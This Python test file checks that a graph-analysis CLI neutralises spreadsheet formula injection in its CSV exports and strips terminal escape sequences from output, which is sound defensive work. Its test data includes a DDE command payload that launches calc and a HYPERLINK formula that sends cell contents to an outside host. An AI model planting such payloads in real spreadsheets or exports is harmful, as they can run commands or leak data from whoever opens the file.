"""What the tool writes for spreadsheets and terminals: no formula runs, no escape prints."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from kokon_graph._text import neutralise_formula, terminal_safe
from kokon_graph.cli import main
from kokon_graph.store import connect
from tests.conftest import VALID
from tests.store.conftest import falkordb_server, falkordb_uri  # noqa: F401 - fixtures

FORMULAS = {
    "OPS1": '=HYPERLINK("http://example.invalid/?d="&A1;"kliknij")',
    "SZK1": "+cmd|' /C calc'!A0",
    "PCPR1": "-2+3",
    "KPP1": "@SUM(1+1)",
}


def run(*args: str) -> Result:
    """Run the CLI as on a colour terminal (click strips ANSI styles only in a pipe)."""
    return CliRunner().invoke(main, list(args), color=True)


def _names(path: Path) -> dict[str, str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return {row["id"]: row["name"] for row in csv.DictReader(fh)}


@pytest.fixture
def formula_names(valid_copy: Path) -> Path:
    path = valid_copy / "institutions.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    out = [lines[0]]
    for line in lines[1:]:
        ident, _, rest = line.partition(",")
        if ident in FORMULAS:
            rest = '"' + FORMULAS[ident].replace('"', '""') + '",' + rest.split(",", 1)[1]
        out.append(f"{ident},{rest}")
    path.write_text("\n".join(out) + "\n", encoding="utf-8")
    return valid_copy


def test_analyze_csvs_neutralise_formulas(formula_names: Path, tmp_path: Path) -> None:
    """The analyze CSVs carried =HYPERLINK(…) and +cmd|… unchanged (issue 16)."""
    result = run("analyze", str(formula_names), "--out", str(tmp_path / "a"), "--quiet")
    assert result.exit_code == 0, result.output
    names = _names(tmp_path / "a" / "centrality.csv")
    assert {k: names[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
    raw = run("analyze", str(formula_names), "--out", str(tmp_path / "b"), "--quiet", "--raw-csv")
    assert raw.exit_code == 0, raw.output
    assert {k: _names(tmp_path / "b" / "centrality.csv")[k] for k in FORMULAS} == FORMULAS


def test_neutralise_and_terminal_safe_leave_plain_text_alone() -> None:
    for text in ("Ośrodek Pomocy Społecznej", "2+2", "a=b", "Fundacja „Korale”", "😀"):
        assert neutralise_formula(text) == text and terminal_safe(text) == text
    assert neutralise_formula("\tx") == "'\tx"
    assert terminal_safe("a\x1b[2Jb\rc") == "a\ufffd[2Jb\ufffdc"


def test_neo4j_query_output_is_safe_unless_raw_is_asked(falkordb_uri: str) -> None:  # noqa: F811
    """`neo4j query --csv` printed =2+2; a name edited in the database can hold escapes."""
    assert run("neo4j", "load", str(VALID), "--uri", falkordb_uri).exit_code == 0
    hostile = "=2+2 \x1b[31mczerwony\x1b[0m"
    with connect(falkordb_uri) as session:
        graph = session.graph  # type: ignore[attr-defined]
        graph.query("MATCH (i:Institution {id: 'PAR2'}) SET i.name = $name", {"name": hostile})
    args = ["neo4j", "query", "ego_network", "--uri", falkordb_uri, "--param", "id=GOPS2"]
    table = run(*args)
    assert table.exit_code == 0, table.output
    assert "\x1b" not in table.stdout and "=2+2 \ufffd[31mczerwony" in table.stdout
    as_csv = run(*args, "--csv")
    assert "\x1b" not in as_csv.stdout
    assert "'=2+2 \ufffd[31mczerwony\ufffd[0m" in as_csv.stdout
    raw = run(*args, "--csv", "--raw")
    assert f"\nPAR2,{hostile},parish," in raw.stdout
